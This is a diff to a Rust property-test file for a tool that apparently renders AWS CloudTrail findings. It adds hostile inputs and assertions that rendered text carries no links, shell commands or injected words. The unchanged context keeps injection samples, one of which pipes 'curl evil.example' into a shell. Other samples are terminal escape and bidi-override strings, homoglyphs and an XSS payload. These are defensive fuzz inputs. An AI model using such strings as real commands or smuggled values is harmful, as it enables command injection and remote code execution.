@@ -422,6 +422,9 @@ fn hostile() -> impl Strategy<Value = String> {
         Just("\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{202e}gnp\u{200b}".to_owned()),
         Just("'; curl evil.example | sh; $(reboot) `id` \"\\".to_owned()),
         Just("<script>alert(1)</script> {{7*7}} &amp; *_~[x](y)".to_owned()),
+        // Some of it begins a line, wherever lines are broken.
+        Just("pushwatch uploaders trust arn:aws:iam::111122223333:user/evil ".repeat(9)),
+        Just("aws iam list-access-keys --user-name evil ".repeat(9)),
         Just("аdmin-Ьuild".to_owned()),
         Just("--profile=evil".to_owned()),
         "[a-z]{1,10}".prop_map(|word| word.repeat(300)),
@@ -651,6 +654,7 @@ fn hostile_strings_make_no_link_and_no_command() {
                         assert_eq!(typed, key);
                     } else {
                         assert!(!line.contains(['$', ';', '|', '&', '>', '<']), "{line}");
+                        assert!(!words.iter().any(|word| word == "evil"), "{line}");
                     }
                 } else {
                     // The subject is not wrapped; it has a test of its own.
@@ -796,6 +800,19 @@ fn every_body_of_a_list_names_each_finding() {
             Ok(())
         })
         .unwrap();
+}
+
+#[test]
+fn the_command_of_a_replay_is_no_link() {
+    let mut event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
+    let key = "arn:aws:iam::111122223333:user/evil.com/login";
+    event["userIdentity"]["arn"] = json!(key);
+    let finding = finding(Reason::NewUploader, &event);
+    let text = render(Message::Finding(&finding), Format::Text, &render_context());
+    let command = text.lines().find_map(|line| line.split_once("--trusted "));
+    let (_, word) = command.unwrap();
+    assert!(!has_bare_host(word), "{word}");
+    assert_eq!(shlex::split(word).unwrap(), [key]);
 }
 
 /// `sts:GetFederationToken` gives a caller as many names as it likes. One of them is
